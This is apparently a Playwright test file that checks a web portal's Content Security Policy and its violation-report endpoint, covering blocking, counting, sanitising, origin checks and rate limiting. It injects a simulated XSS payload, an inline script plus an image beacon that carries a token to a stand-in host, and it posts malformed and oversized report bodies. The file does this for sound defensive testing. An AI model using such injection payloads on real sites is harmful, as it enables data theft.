import { ADMIN, callApi } from './support/accounts.ts'
import type { Stack } from './support/stack.ts'
import { expect, test } from './support/test.ts'

const STAFF = {
  username: ADMIN.phone,
  password: ADMIN.password,
  rememberMe: false,
  captchaVerification: ADMIN.regcode,
}
interface Counted {
  directive: string
  blocked: string
  page: string
  count: number
}

async function counted(stack: Stack): Promise<Counted[]> {
  const { accessToken: token } = await callApi<{ accessToken: string }>(
    stack,
    'POST',
    '/system/auth/login',
    { body: STAFF },
  )
  const path = '/extend/csp-report/page?pageNo=1&pageSize=200'
  return (await callApi<{ list: Counted[] }>(stack, 'GET', path, { token })).list
}
const find = async (stack: Stack, directive: string, page: string) =>
  (await counted(stack)).find((row) => row.directive === directive && row.page === page)

/** Simulates an injection flaw: attacker's text in the page. */
const INJECTED =
  '<script>window.stolen = "13800000001"</script><img src="http://127.0.0.1:9/x.png?token=secret-0f8d3a5c">'

test('What a page’s policy forbids does not happen, and staff find it counted @quick', async ({
  page,
  stack,
  script,
  problems,
}) => {
  problems.allow(/Content Security Policy/)
  await page.route('**/about?*', async (route) => {
    const response = await route.fetch({ url: `${stack.portalUrl}/about` })
    await route.fulfill({ response, body: `${await response.text()}${INJECTED}` })
  })
  // The second time the page comes from the cache.
  for (const visit of [1, 2]) {
    const response = await page.goto('/about?phone=13800000001&token=secret-0f8d3a5c')
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self';")
    await expect
      .poll(async () => (await find(stack, 'img-src', '/about'))?.count, { timeout: 60_000 })
      .toBe(visit)
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  }
  expect(await find(stack, 'img-src', '/about')).toMatchObject({ blocked: 'http://127.0.0.1:9' })
  if (script)
    await expect
      .poll(() => find(stack, 'script-src-elem', '/about'), { timeout: 60_000 })
      .toMatchObject({ blocked: 'inline', count: 2 })
  const all = JSON.stringify(await counted(stack))
  expect(all).not.toMatch(/13800000001|secret|stolen|\?/)
})

test('An address that is no page of ours is not kept, since anything may stand in it', async ({
  page,
  stack,
  problems,
}) => {
  problems.allowStatus(404)
  problems.allow(/Content Security Policy/)
  await page.route('**/13800000001', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: `${await response.text()}${INJECTED}` })
  })
  const response = await page.goto('/13800000001')
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self';")
  await expect
    .poll(() => find(stack, 'img-src', '/*'), { timeout: 60_000 })
    .toMatchObject({ count: 1 })
  expect(JSON.stringify(await counted(stack))).not.toContain('13800000001')
})

const REPORTS = '/csp-reports'
const body = (path: string) => (stack: Stack) =>
  JSON.stringify({
    'csp-report': {
      'document-uri': stack.portalUrl + path,
      'effective-directive': 'font-src',
      'blocked-uri': 'https://evil.example/a.woff',
    },
  })
const headers = { 'content-type': 'application/csp-report', 'sec-fetch-site': 'same-origin' }

test('The address of reports takes those and nothing else', async ({ request, stack }) => {
  const data = body('/privacy')(stack)
  const post = async (given: object, more: Record<string, string> = {}) =>
    (
      await request.post(REPORTS, {
        headers: { ...headers, 'x-forwarded-for': '198.51.100.1', ...more },
        data,
        ...given,
      })
    ).status()
  expect(await post({})).toBe(204)
  const many = JSON.stringify([
    { type: 'deprecation', url: stack.portalUrl, body: {} },
    {
      type: 'csp-violation',
      url: `${stack.portalUrl}/privacy`,
      body: {
        documentURL: `${stack.portalUrl}/privacy`,
        effectiveDirective: 'font-src',
        blockedURL: 'https://evil.example/b.woff',
      },
    },
  ])
  expect(await post({ data: many }, { 'content-type': 'application/reports+json' })).toBe(204)
  for (const hostile of ['', '{', '[]', '{"csp-report":{}}', '['.repeat(60_000)])
    expect(await post({ data: hostile })).toBe(204)
  expect(await find(stack, 'font-src', '/privacy')).toMatchObject({
    blocked: 'https://evil.example',
    count: 2,
  })
  expect(await post({ data: 'x'.repeat(65 * 1024) })).toBe(413)
  expect(await post({}, { 'content-type': 'application/json' })).toBe(415)
  expect(await post({}, { 'content-type': 'application/x-www-form-urlencoded' })).toBe(415)
  expect(await post({}, { 'sec-fetch-site': 'cross-site' })).toBe(403)
  expect(await post({}, { 'sec-fetch-site': 'same-site' })).toBe(403)
  const read = await request.get(REPORTS)
  expect([read.status(), read.headers().allow]).toEqual([405, 'POST'])
  expect((await find(stack, 'font-src', '/privacy'))?.count).toBe(2)
})

test('An address that reports without end is told to wait; with the API down reports are lost unseen', async ({
  request,
  stack,
}) => {
  const send = (address: string) =>
    request.post(REPORTS, {
      headers: { ...headers, 'x-forwarded-for': address },
      data: body('/sitemap')(stack),
    })
  const statuses: number[] = []
  for (let n = 0; n < 60 && !statuses.includes(429); n++)
    statuses.push((await send('198.51.100.2')).status())
  expect(statuses.indexOf(429)).toBeGreaterThanOrEqual(30)
  expect((await send('198.51.100.2')).headers()['retry-after']).toMatch(/^\d+$/)
  expect((await send('198.51.100.3')).status()).toBe(204)
  await stack.stopApi()
  try {
    expect((await send('198.51.100.4')).status()).toBe(204)
  } finally {
    await stack.startApi()
  }
})
